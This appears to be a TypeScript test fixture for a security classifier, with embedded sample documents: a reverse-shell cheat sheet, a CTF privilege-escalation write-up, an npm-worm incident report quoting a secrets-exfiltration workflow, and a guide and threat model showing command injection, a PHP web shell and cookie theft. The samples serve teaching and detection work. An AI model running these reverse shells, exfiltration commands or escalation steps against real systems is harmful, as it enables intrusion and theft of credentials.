// Documentation, write-ups and advisories that show attacks.
import type { Family } from './family.ts'

export const goodDocs: readonly Family[] = [
  {
    family: 'reverse-shell-cheat-sheet',
    positive: false,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['notes/cheatsheet.md'],
        whole: `# Reverse shells

Notes for the lab of week 6. Only use them on the machines of the course.

| Language | Command |
| --- | --- |
| bash | \`bash -i >& /dev/tcp/192.0.2.10/4444 0>&1\` |
| nc | \`rm /tmp/f; mkfifo /tmp/f; cat /tmp/f \\| sh -i 2>&1 \\| nc 192.0.2.10 4444 > /tmp/f\` |
| PHP | \`php -r '$s=fsockopen("192.0.2.10",4444);exec("sh <&3 >&3 2>&3");'\` |

Listen with \`nc -lvnp 4444\`. Then make the shell usable:

\`\`\`sh
python3 -c 'import pty; pty.spawn("/bin/bash")'
export TERM=xterm
\`\`\`

How to detect it: look for shells whose standard input is a socket (\`ls -l /proc/*/fd/0 | grep socket\`).`,
      },
    ],
  },
  {
    family: 'ctf-write-up',
    positive: false,
    classes: ['privilege-escalation'],
    variants: [
      {
        paths: ['writeups/rusty-gate.md'],
        whole: `# Rusty Gate (pwn, 350 points)

The binary is setuid root and calls \`system("date")\` without a path, so we put our own \`date\` in front:

\`\`\`sh
echo '/bin/sh -p' > /tmp/date
chmod +x /tmp/date
PATH=/tmp:$PATH ./rusty_gate
# id
uid=1000(ctf) euid=0(root)
\`\`\`

The second flag is in a container. \`docker.sock\` is mounted, hence

\`\`\`sh
docker -H unix:///var/run/docker.sock run -v /:/mnt --rm -it alpine chroot /mnt sh
cat /root/flag2.txt
\`\`\`

\`flag{⟦alnum:24⟧}\``,
      },
    ],
  },
  {
    family: 'incident-report',
    positive: false,
    classes: ['supply-chain'],
    variants: [
      {
        paths: ['blog/incident.md'],
        whole: `---
title: What the npm worm did, and what we changed
date: 2025-09-19
tags: [security, npm]
---

On 15 September a dependency of ours was published with a \`postinstall\` script. It ran \`bundle.js\`⟦join⟧
, which

1. looked for tokens in the environment and in \`~/.npmrc\`,
2. posted them to \`https://webhook.site/...\`, twice base64 encoded,
3. published itself in other packages of the same maintainer,
4. added a workflow with \`\${{ toJSON(secrets) }}\` to the repositories it could reach.

The workflow looked like this:

\`\`\`yaml
on: push
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "$CONTENTS" https://webhook.site/[removed]
        env: { CONTENTS: "\${{ toJSON(secrets) }}" }
\`\`\`

We now install with \`npm ci --ignore-scripts\`, and tokens last an hour.`,
      },
    ],
  },
  {
    family: 'owasp-style-guide',
    positive: false,
    classes: ['shell-injection'],
    variants: [
      {
        paths: ['docs/security/command-injection.md'],
        whole: `# Command injection

Never build a command line from a request:

\`\`\`php
system("ping -c 4 " . $_GET['host']);   // wrong: ?host=;cat /etc/passwd
\`\`\`

\`\`\`js
exec(\`convert \${req.query.file} out.png\`) // wrong
\`\`\`

Give the arguments as a list, so that no shell reads them:

\`\`\`js
execFile('convert', [file, 'out.png'])
\`\`\`

In PHP, \`escapeshellarg()\` is the last resort. Better still, use a library in place of the program.`,
      },
      {
        paths: ['docs/ThreatModel.adoc'],
        whole: `= Threat model

== Web shells

An attacker who can upload a file writes \`<?php system($_GET['c']); ?>\` to \`uploads/\`.

*Answer*: uploads lie outside the web root, names are made by us, and the server runs no PHP there.

== Stolen cookies

\`document.location='http://192.0.2.7/?c='+document.cookie\` in a comment would send the session away.

*Answer*: comments are escaped, and the cookie is \`HttpOnly\`.`,
      },
    ],
  },
]
